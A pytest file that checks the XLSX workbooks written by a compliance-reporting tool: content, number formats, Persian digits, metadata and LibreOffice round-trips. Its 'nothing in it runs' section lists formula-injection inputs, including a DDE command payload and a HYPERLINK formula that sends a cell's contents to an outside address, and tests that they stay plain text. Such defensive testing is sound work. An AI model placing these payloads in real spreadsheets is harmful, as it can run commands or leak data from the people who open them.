"""The workbook: one row a thing, real numbers, nothing that runs; read back by openpyxl and by LibreOffice."""

from __future__ import annotations

import html
import re
import shutil
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from fractions import Fraction
from functools import cache
from io import BytesIO
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import Result
from hypothesis import given
from hypothesis import strategies as st

from compliance import language
from compliance.criteria.tracking import Mark
from compliance.language import _
from compliance.model.decisions import Decisions
from compliance.model.results import State
from compliance.persian import dates, numbers
from compliance.report import plan_tables, words, write
from compliance.report.content import Report
from compliance.report.document import Document, Figures, Fold, Grid
from compliance.report.parts import brief, compose
from compliance.report.workbook import cells
from tests import documents, pictures

DAY = date(2026, 12, 26)
Run = Callable[..., Result]
Book = Any
LANGUAGES = ("fa", "en")
EVERY = list(product(documents.FORMS, LANGUAGES))
REOPENED = [*((form, "fa") for form in documents.FORMS), ("planned", "en"), ("hostile", "en")]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# `make test` installs LibreOffice as root on Debian; elsewhere these tests say what is missing.
office_suite = pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice here: apt-get install libreoffice-calc")
FIRST = 5  # the first row of a table, below mark, code, sums and headings
MARKS = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
TEXTS = {
    "formula": "=1+1",
    "plus": "+98 77 3352",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "address": "http://192.0.2.1/",
    "mail": "mailto:a@b.ir",
    "eleven-digits": "00123456789",
    "telephone": "07733521234",
    "exponent": "1E5",
    "date": "1405/09/01",
    "slash-date": "3/4",
    "escape": "_x0041_",
    "quote": "'=1+1",
    "true": "TRUE",
}


def formatted(sheet: Any) -> dict[str, list[Any]]:
    """Return the conditional formats of a sheet by where they hold."""
    return {str(area.sqref): list(area.rules) for area in sheet.conditional_formatting}


def read(content: bytes | Path, values: bool = False) -> Book:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl does not know the extension that data bars are written in
        return openpyxl.load_workbook(BytesIO(content) if isinstance(content, bytes) else content, data_only=values)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str, str], tuple[Document, bytes]]:
    """Return the document and the workbook of a form in a language, each made once."""
    folder = tmp_path_factory.mktemp("offices")

    @cache
    def report(form: str) -> Report:
        return documents.report(form, folder)

    @cache
    def make(form: str, lang: str) -> tuple[Document, bytes]:
        gathered = report(form)
        language.use(lang)
        document = compose(gathered)
        return document, write(document, "xlsx")

    def call(form: str, lang: str) -> tuple[Document, bytes]:
        result = make(form, lang)
        language.use(lang)
        return result

    return call


Made = Callable[[str, str], tuple[Document, bytes]]


def raw_header(content: bytes) -> str:
    """Return the print header of the first sheet as it is written."""
    with zipfile.ZipFile(BytesIO(content)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    return html.unescape(re.findall("<oddHeader[^>]*>(.*?)</oddHeader>", sheet, re.S)[0])


def column(sheet: Any, title: str) -> list[Any]:
    """Return the cells below a heading."""
    headings = [cell.value for cell in sheet[FIRST - 1]]
    return [row[headings.index(title)] for row in sheet.iter_rows(min_row=FIRST)]


def tables(book: Book) -> list[Any]:
    """Return the sheets with a table: all but the first and the hidden one."""
    return list(book.worksheets[1:-1])


# --- what is in it


@pytest.mark.parametrize(("form", "lang"), EVERY)
def test_every_item_and_every_action_is_there_once(made: Made, form: str, lang: str) -> None:
    document, content = made(form, lang)
    book, report = read(content), document.report
    assert [c.value for c in column(book[_("Items")], _("item"))] == [r.item.id for r in report.main.items]
    plan = report.plan
    if plan is None or not plan.actions:
        assert _("Plan") not in book.sheetnames
        return
    assert [c.value for c in column(book[_("Plan")], _("action"))] == [str(p.action.title) for p in plan.actions]
    assert [c.value for c in column(book[_("Plan")], _("ends"))] == [dates.show(p.end) for p in plan.actions]
    if plan.requests:
        asked = [str(r.action.title) for r in plan.requests]
        assert [c.value for c in column(book[_("Requests")], _("request to headquarters"))] == asked
    if plan.left_out:
        assert [c.value for c in column(book[_("What stays open")], _("item"))] == [gap.item for gap in plan.left_out]


@pytest.mark.parametrize(("form", "lang"), EVERY)
def test_numbers_are_the_exact_points_rounded_as_they_are_shown(made: Made, form: str, lang: str) -> None:
    document, content = made(form, lang)
    book, report = read(content), document.report
    items, results = book[_("Items")], report.main.items
    for title, amounts in {
        _("points"): [r.points for r in results],
        _("maximum"): [r.maximum for r in results],
        _("points short"): [r.maximum - r.points for r in results],
    }.items():
        shown = column(items, title)
        assert [c.value for c in shown] == [float(numbers.half_up(amount)) for amount in amounts]
        assert all(c.data_type == "n" and re.search(r"#,##0(\.0{1,2})?$", c.number_format) for c in shown)
    for cell, result in zip(column(items, _("share")), results, strict=True):
        exact = None if result.share is None else numbers.half_up(result.share * 100, 1) / 100
        assert cell.value == (None if exact is None else float(exact))
        assert cell.value is None or cell.number_format.endswith("0.0%")
    if report.plan and report.plan.actions:
        efforts = [float(numbers.half_up(p.effort)) for p in report.plan.actions]
        assert [c.value for c in column(book[_("Plan")], _("person-days"))] == efforts
        costs = [p.action.cost for p in report.plan.actions]
        assert [c.value for c in column(book[_("Plan")], _("cost (million rials)"))] == costs


@pytest.mark.parametrize(("form", "lang"), EVERY)
def test_nothing_is_lost_against_the_tables_of_feedback_and_follow_up(made: Made, form: str, lang: str) -> None:
    document, content = made(form, lang)
    book, parts = read(content), {part.id: part for part in document.parts}
    grids = [g for fold in parts["feedback"].blocks if isinstance(fold, Fold) for g in fold.blocks]
    rows = [row for grid in grids if isinstance(grid, Grid) for row in grid.table.rows]
    feedback = book[_("Feedback")]
    assert [c.value for c in column(feedback, _("item"))] == [row[0] for row in rows]
    everything = {str(c.value) for row in feedback.iter_rows(min_row=FIRST) for c in row}
    written = {cell for row in rows for cell in row if not isinstance(cell, numbers.Number) and cell not in ("", "—")}
    assert written <= everything
    assert (_("Follow-up") in book.sheetnames) == ("follow-up" in parts)


def test_points_in_every_checklist_have_columns_of_their_own(made: Made) -> None:
    document, content = made("planned", "en")
    plan = document.report.plan
    assert plan is not None
    shown = column(read(content)["Plan"], "points: award")
    assert [c.value for c in shown] == [
        float(numbers.half_up(p.gains.get("award", Fraction(0)))) for p in plan.actions
    ]


def test_a_workbook_has_only_the_sheets_of_the_parts_that_were_asked_for(made: Made) -> None:
    report = made("approved", "en")[0].report
    language.use("en")
    names = {part: read(write(compose(report, [part]), "xlsx")).sheetnames[1:-1] for part in ("brief", "plan", "requests", "minutes", "follow-up", "feedback")}  # fmt: skip
    assert names == {
        "brief": [],
        "plan": ["Plan", "Requests", "What stays open"],
        "requests": ["Requests"],
        "minutes": ["Minutes"],
        "follow-up": ["Follow-up"],
        "feedback": ["Feedback"],
    }
    assert "Items" in read(write(compose(report, ["assessment"]), "xlsx")).sheetnames


def overview(content: bytes) -> dict[str, Any]:
    """Return the cells of the first sheet beside their labels."""
    rows = read(content).worksheets[0].iter_rows(min_row=FIRST - 1, max_col=2)
    return {label.value: cell.value for label, cell in rows if label.value}


def figures(document: Document) -> dict[str, Any]:
    """Return the figures of the director's page, as a cell holds them beside their labels."""
    found = {}
    for block in brief.part(document.report).blocks:
        for figure in block.figures if isinstance(block, Figures) else ():
            label = f"{figure.label} ({figure.note})" if figure.note else figure.label
            value = figure.value
            if isinstance(value, numbers.Number):
                found[label] = float(value.amount / 100 if value.per_cent else value.amount)
    return found


@pytest.mark.parametrize(("form", "lang"), EVERY)
@pytest.mark.parametrize("part", ["all", "plan"])
def test_the_overview_has_the_figures_of_the_directors_page(made: Made, form: str, lang: str, part: str) -> None:
    document, content = made(form, lang)
    if part != "all":
        content = write(compose(document.report, [part]), "xlsx")
    wanted = figures(document)
    assert {label: cell for label, cell in overview(content).items() if label in wanted} == pytest.approx(wanted)


def late(report: Report) -> Report:
    """Return a report whose approved plan should be done long since."""
    assert report.plan is not None
    assert report.followed is not None
    track = report.followed.track
    actions = tuple(a._replace(mark=Mark.OVERDUE) for a in track.actions)
    return report._replace(followed=report.followed._replace(track=track._replace(actions=actions)))


def test_a_returned_plan_promises_nothing_and_a_late_one_says_that_it_is(made: Made) -> None:
    language.use("en")
    report = made("approved", "en")[0].report
    plan = report.plan
    assert plan is not None
    shown = " ".join(overview(write(compose(late(report)), "xlsx")))
    assert "Planned score (late; by 1406/03/01)" in shown
    assert "Score after the plan" not in shown
    returned = plan._replace(approval=None, actions=tuple(p._replace(state=State.RETURNED) for p in plan.actions))
    cells_ = overview(write(compose(report._replace(plan=returned, followed=None)), "xlsx"))
    assert not [label for label in cells_ if "score after" in label.lower() or "cost" in label or "days" in label]


def test_a_workbook_has_what_the_director_decided_and_remarked(made: Made) -> None:
    language.use("en")
    report = made("approved", "en")[0].report
    assert report.plan is not None
    id_ = report.plan.actions[0].action.id
    title = str(report.plan.actions[0].action.title)
    made_ = Decisions(fixed={id_: DAY}, comments={"plan": ("=1+1", "Well done"), id_: ("With the contractor",)})
    decided = report._replace(plan=report.plan._replace(decisions=made_))
    sheet = read(write(compose(decided, ["plan"]), "xlsx"))["Director's decisions"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=FIRST)] == [
        [title, f"begins on {dates.show(DAY)}"],
        ["the whole plan", "=1+1"],
        ["the whole plan", "Well done"],
        [title, "With the contractor"],
    ]
    assert {cell.data_type for row in sheet.iter_rows(min_row=FIRST) for cell in row} == {"s"}
    assert "Director's decisions" not in read(write(compose(decided, ["requests"]), "xlsx")).sheetnames


def test_a_program_can_tell_what_the_workbook_is(made: Made) -> None:
    document, content = made("planned", "fa")
    sheet = read(content)["_meta"]
    assert sheet.sheet_state == "veryHidden"
    rows = [[cell.value for cell in row if cell.value is not None] for row in sheet.iter_rows()]
    assert ["office", "bushehr-civil-registry"] in rows
    assert ["round", "1405-2"] in rows
    assert ["code", document.code] in rows
    main = document.report.main.checklist
    assert ["checklist", main.id, main.version, main.sha256] in rows


def test_the_same_document_gives_the_same_bytes(made: Made) -> None:
    document, content = made("planned", "fa")
    assert write(document, "xlsx") == content
    later = document._replace(day=document.day + timedelta(days=1))
    assert write(later, "xlsx") != content


# --- how it is shown


@pytest.mark.parametrize(("form", "lang"), EVERY)
def test_every_sheet_bears_mark_and_code_and_prints_well(made: Made, form: str, lang: str) -> None:
    document, content = made(form, lang)
    book = read(content)
    assert len(set(map(str.casefold, book.sheetnames))) == len(book.sheetnames)
    for sheet in book.worksheets[:-1]:
        assert sheet["A1"].value.startswith(_("DRAFT")) == document.draft
        assert sheet["B2"].value == document.code
        assert bool(sheet.sheet_view.rightToLeft) == (lang == "fa")
        assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
        assert sheet.page_setup.fitToHeight == 0
        assert sheet.oddFooter.center.text == "&P / &N"
        edges = (sheet.oddHeader.left.text, sheet.oddHeader.right.text)
        assert document.code in edges
        assert sheet.oddHeader.center.text.startswith(_("DRAFT")) == document.draft
        assert not MARKS.search("".join(str(c.value) for row in sheet.iter_rows() for c in row))
    for sheet in tables(book):
        last = f"{sheet.cell(sheet.max_row, sheet.max_column).coordinate}"
        assert sheet.auto_filter.ref == f"A{FIRST - 1}:{last}"
        assert sheet.freeze_panes in (f"B{FIRST}", f"C{FIRST}")
        assert sheet.print_title_rows == f"${FIRST - 1}:${FIRST - 1}"
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[FIRST - 1]]
        assert all(width is None or 9 < width <= 61 for width in widths)


def test_states_shares_gaps_and_late_days_are_coloured(made: Made) -> None:
    document, content = made("approved", "en")
    book = read(content)
    items = formatted(book["Items"])
    headings = [c.value for c in book["Items"][FIRST - 1]]
    last = book["Items"].max_row

    def area(title: str) -> str:
        letter = book["Items"].cell(1, headings.index(title) + 1).column_letter
        return f"{letter}{FIRST}:{letter}{last}"

    assert [rule.formula for rule in items[area("state")]] == [[f'"{_(word)}"'] for word in words.STATUS.values()]
    assert [rule.type for rule in items[area("share")]] == ["dataBar"]
    assert [rule.type for rule in items[area("points short")]] == ["colorScale"]
    due = formatted(book["Plan"])[f"G{FIRST}:G{book['Plan'].max_row}"]
    today, done, verified = dates.show(document.day), *(plan_tables.STATE[s] for s in list(plan_tables.STATE)[-2:])
    assert [rule.formula for rule in due] == [[f'AND($G5<"{today}",$H5<>"{done}",$H5<>"{verified}")']]


@pytest.mark.parametrize(("form", "lang"), EVERY)
def test_the_only_formulas_are_sums_of_what_a_filter_leaves(made: Made, form: str, lang: str) -> None:
    content = made(form, lang)[1]
    values = read(content, values=True)
    for sheet in read(content).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"):
            letter = cell.column_letter
            assert cell.value == f"=SUBTOTAL(109,{letter}{FIRST}:{letter}{sheet.max_row})"
            amounts = [sheet.cell(row, cell.column).value or 0 for row in range(FIRST, sheet.max_row + 1)]
            assert values[sheet.title][cell.coordinate].value == pytest.approx(sum(amounts))


def test_persian_workbooks_show_persian_digits(made: Made) -> None:
    """The 03 before the code of Persian is what Excel and LibreOffice both take for Persian digits."""
    shown = column(read(made("planned", "fa")[1])[_("Items")], _("points"))
    assert {cell.number_format for cell in shown} == {"[$-3000429]#,##0.00"}
    assert {cell.number_format for cell in column(read(made("planned", "en")[1])["Items"], "points")} == {"#,##0.00"}


def test_days_are_texts_that_sort(made: Made) -> None:
    ends = [cell.value for cell in column(read(made("planned", "fa")[1])[_("Plan")], _("ends"))]
    assert ends == sorted(ends)
    assert all(re.fullmatch("[۰-۹]{4}/[۰-۹]{2}/[۰-۹]{2}", end) for end in ends)


# --- nothing in it runs


def hostile(report: Report) -> Report:
    """Return a report whose people in charge have texts for names that programs like to take for something else."""
    plan = report.plan
    assert plan is not None
    people = {p.action.id: text for p, text in zip(plan.actions, TEXTS.values(), strict=True)}
    return report._replace(plan=plan._replace(decisions=plan.decisions._replace(people=people)))


@pytest.fixture(scope="module")
def dangerous(made: Made) -> bytes:
    report = hostile(made("planned", "en")[0].report)
    return write(compose(report, ["plan"]), "xlsx")


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_stays_the_text_it_is(dangerous: bytes, name: str) -> None:
    cell = column(read(dangerous)["Plan"], "person in charge")[list(TEXTS).index(name)]
    text = TEXTS[name].replace("\r", "\n")
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
    assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@", "\t", "\n"))


@pytest.mark.parametrize(
    ("office", "shown"),
    [
        ("A&B &D &P", "A&&B &&D &&P"),
        ("&" * 300, "&&" * 50),
        ("long " * 15, "long " * 9 + "long\nlong long long long long"),
    ],
)
def test_a_print_header_cannot_be_commanded_by_an_office_name(made: Made, office: str, shown: str) -> None:
    document = made("planned", "en")[0]._replace(office=office)
    assert raw_header(write(document, "xlsx")) == f"&L{shown}&CDRAFT – &A&R{document.code}"


@given(st.text(max_size=200))
def test_any_text_becomes_a_cell_that_xml_can_hold(text: str) -> None:
    import xlsxwriter

    shown = cells.text(text)
    assert not MARKS.search(shown)
    buffer = BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        book.add_worksheet().write_string(0, 0, shown)
    assert (read(buffer.getvalue()).active["A1"].value or "") == shown


@pytest.mark.parametrize("text", ["ا" * 40000, "😀" * 20000])
def test_a_text_that_is_too_long_is_cut_with_a_sign(text: str) -> None:
    shown = cells.text(text)
    assert len(shown.encode("utf-16-le")) // 2 <= cells.LONGEST
    assert shown.endswith("…")


@given(st.lists(st.text(max_size=50) | st.sampled_from(["History", "a" * 40, "[x]:*?/\\", "'", ""]), max_size=8))
def test_names_of_sheets_are_allowed_and_never_the_same(titles: list[str]) -> None:
    taken: list[str] = []
    for title in titles:
        taken.append(cells.sheet_name(title, taken))
    assert len({name.casefold() for name in taken}) == len(titles)
    for name in taken:
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\]|^'|'$", name)
        assert name.casefold() != "history"


def test_without_the_package_the_verb_says_how_to_get_it(
    run: Run, office: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    result = run("report", office, "--output", tmp_path / "r.xlsx")
    assert result.exit_code == 3
    assert 'pip install "provincial-compliance[documents]"' in result.stderr
    assert not (tmp_path / "r.xlsx").exists()


# --- real LibreOffice


def convert(files: list[Path], kind: str, folder: Path) -> None:
    """Let one LibreOffice with a profile of its own open all files and save them as another kind."""
    assert SOFFICE is not None
    profile = (folder / "profile").as_uri()
    command = [SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--norestore", "--convert-to", kind]
    subprocess.run(
        [*command, "--outdir", str(folder), *map(str, files)], capture_output=True, check=True, timeout=300
    )


@pytest.fixture(scope="module")
def reopened(made: Made, dangerous: bytes, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Yield the folder with every workbook as LibreOffice saves it."""
    before, after = tmp_path_factory.mktemp("written"), tmp_path_factory.mktemp("saved")
    for form, lang in REOPENED:
        (before / f"{form}.{lang}.xlsx").write_bytes(made(form, lang)[1])
    (before / "dangerous.xlsx").write_bytes(dangerous)
    convert(sorted(before.iterdir()), "xlsx", after)
    yield after
    shutil.rmtree(after)


def contents(book: Book) -> dict[str, list[list[Any]]]:
    return {
        sheet.title: [[c.value for c in row if c.value is not None] for row in sheet.iter_rows()] for sheet in book
    }


@office_suite
@pytest.mark.parametrize(("form", "lang"), REOPENED)
def test_libreoffice_reads_and_keeps_everything(made: Made, reopened: Path, form: str, lang: str) -> None:
    before, after = read(made(form, lang)[1]), read(reopened / f"{form}.{lang}.xlsx")
    assert contents(after) == contents(before)
    sums = read(reopened / f"{form}.{lang}.xlsx", values=True)
    assert not [c for sheet in sums for row in sheet.iter_rows() for c in row if c.data_type == "e"]
    assert after["_meta"].sheet_state != "visible"
    for sheet in tables(after):
        assert bool(sheet.sheet_view.rightToLeft) == (lang == "fa")
        assert sheet.auto_filter.ref == before[sheet.title].auto_filter.ref


@office_suite
def test_dangerous_texts_are_texts_after_libreoffice_saved_them(reopened: Path) -> None:
    shown = column(read(reopened / "dangerous.xlsx")["Plan"], "person in charge")
    assert [(c.value, c.data_type) for c in shown] == [(text.replace("\r", "\n"), "s") for text in TEXTS.values()]


@office_suite
def test_printed_sheets_have_persian_digits_and_a_mark_on_every_page(made: Made, tmp_path: Path) -> None:
    """The pages are left as pictures, to be looked at."""
    import pypdfium2

    files = []
    for form, lang in (("planned", "fa"), ("long", "fa"), ("hostile", "en")):
        report = made(form, lang)[0].report
        files.append(tmp_path / f"xlsx-{form}-{lang}.xlsx")
        files[-1].write_bytes(write(compose(report, ["brief", "plan"]), "xlsx"))
    convert(files, "pdf", tmp_path)
    for file in files:
        assert pictures.of_pdf(file.with_suffix(".pdf"), file.stem) > 1
    with pypdfium2.PdfDocument(files[0].with_suffix(".pdf")) as document:
        pages = [documents.plain(page.get_textpage().get_text_range()) for page in document]
    assert all("پیش" in page for page in pages)
    assert "۵۶٫۶۷" in pages[0]
    assert "۹۶٫۶" in pages[0]
    assert not re.search(r"[0-9]+\.[0-9]+", pages[0])
